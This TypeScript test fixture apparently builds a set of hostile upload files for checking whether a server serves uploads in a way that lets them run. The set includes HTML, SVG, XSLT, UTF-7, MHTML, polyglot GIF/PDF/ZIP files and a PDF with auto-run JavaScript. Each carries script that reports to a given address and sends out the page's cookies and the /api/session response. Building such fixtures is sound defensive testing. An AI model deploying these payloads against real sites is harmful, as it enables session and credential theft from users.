/** A file that wants to be run where it is opened. */
export interface HostileFile {
  readonly name: string;
  /** As its sender declares it, and as a careless server would serve it. */
  readonly type: string;
  readonly content: Buffer;
  /** Whether a browser runs it as a document when it is served as what it is: then the test can see that it would notice. */
  readonly runs: boolean;
}

/**
 * Script that tells an address that it runs, in several ways, with all it can get at: cookies, and what the server tells
 * whoever is signed in.
 */
function tattle(to: string, from: string): string {
  const address = `${to}/ran?from=${encodeURIComponent(from)}`;
  return [
    `new Image().src='${address}&how=image'`,
    `fetch('${address}&how=fetch&cookie='+encodeURIComponent(self.document?document.cookie:''),{mode:'no-cors'}).catch(()=>0)`,
    `fetch('/api/session').then(r=>r.text()).then(t=>fetch('${address}&how=read&text='+encodeURIComponent(t),{mode:'no-cors'})).catch(()=>0)`,
  ].join(';');
}

/** Without script: a document that is only shown asks for this. */
const seen = (to: string, from: string): string =>
  `<img src="${to}/ran?from=${encodeURIComponent(from)}&amp;how=shown"/>`;

const html = (to: string, from: string): string =>
  `<!doctype html><html><head><script>${tattle(to, from)}</script></head><body onload="${tattle(to, from).replaceAll('"', "'")}">${seen(to, from)}</body></html>`;

const cdata = (script: string): string => `<script xmlns="http://www.w3.org/1999/xhtml"><![CDATA[${script}]]></script>`;

function utf16(text: string): Buffer {
  return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
}

/** A PDF whose viewer is asked to run script, open an address and send a form. */
function pdf(to: string, from: string): string {
  return [
    '%PDF-1.7',
    `1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\("${to}/ran?from=${from}"\\))>>>>endobj`,
    '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj',
    `3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<</S/URI/URI(${to}/ran?from=${from})>>>>>>endobj`,
    'trailer<</Root 1 0 R>>',
    '%%EOF',
  ].join('\n');
}

/** One file of each kind; everything that one of them does is told to an address, with its name. */
export function hostileFiles(to: string): HostileFile[] {
  const file = (name: string, type: string, content: string | Buffer, runs = false): HostileFile => ({
    ...{ name, type, runs },
    content: Buffer.from(content),
  });
  const js = (name: string): string => tattle(to, name);
  const xslt = (name: string): string => {
    const sheet = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body><script>${js(name).replaceAll('&', '&amp;').replaceAll('>', '&gt;')}</script></body></html></xsl:template></xsl:stylesheet>`;
    return `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml,${encodeURIComponent(sheet)}"?><a>${cdata(js(name))}</a>`;
  };
  return [
    file('page.html', 'text/html', html(to, 'page.html'), true),
    file('mark.htm', 'text/html', `\ufeff${html(to, 'mark.htm')}`, true),
    file('utf16.html', 'text/html', utf16(html(to, 'utf16.html')), true),
    file('utf7.html', 'text/html; charset=utf-7', `+ADw-script+AD4-${js('utf7.html')}+ADw-/script+AD4-`),
    file(
      'page.xhtml',
      'application/xhtml+xml',
      `<html xmlns="http://www.w3.org/1999/xhtml"><body>${cdata(js('page.xhtml'))}</body></html>`,
      true,
    ),
    file(
      'drawing.svg',
      'image/svg+xml',
      `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script><![CDATA[${js('drawing.svg')}]]></script></svg>`,
      true,
    ),
    file('data.xml', 'text/xml', xslt('data.xml'), true),
    file('feed.rss', 'application/rss+xml', xslt('feed.rss')),
    file(
      'saved.mhtml',
      'multipart/related',
      `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"; type="text/html"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${html(to, 'saved.mhtml')}\r\n--b--\r\n`,
    ),
    file('code.js', 'text/javascript', js('code.js')),
    file('module.mjs', 'application/javascript', `export default 1;${js('module.mjs')}`),
    file('data.json', 'application/json', js('data.json')),
    file('table.csv', 'text/csv', js('table.csv')),
    file('plain.txt', 'text/plain', html(to, 'plain.txt')),
    file(
      'style.css',
      'text/css',
      `@import url("${to}/ran?from=style.css");body{background:url("${to}/ran?from=style.css")}`,
    ),
    file('gif-and-js.gif', 'image/gif', `GIF89a/*\u0001\u0001*/=1;${js('gif-and-js.gif')}`),
    file('gif-and-html.gif', 'image/gif', `GIF89a${html(to, 'gif-and-html.gif')}`),
    file('page.png', 'image/png', html(to, 'page.png')),
    file('pdf.pdf', 'application/pdf', pdf(to, 'pdf.pdf')),
    file('pdf-and-html.pdf', 'application/pdf', `${pdf(to, 'pdf-and-html.pdf')}\n${html(to, 'pdf-and-html.pdf')}`),
    file('html-and-pdf.html', 'text/html', `${html(to, 'html-and-pdf.html')}\n${pdf(to, 'html-and-pdf.html')}`, true),
    file('zip-and-html.zip', 'application/zip', `PK\u0003\u0004${html(to, 'zip-and-html.zip')}`),
    file('nothing', '', html(to, 'nothing')),
    file('wrong', 'text/html/x; charset="', html(to, 'wrong')),
  ];
}
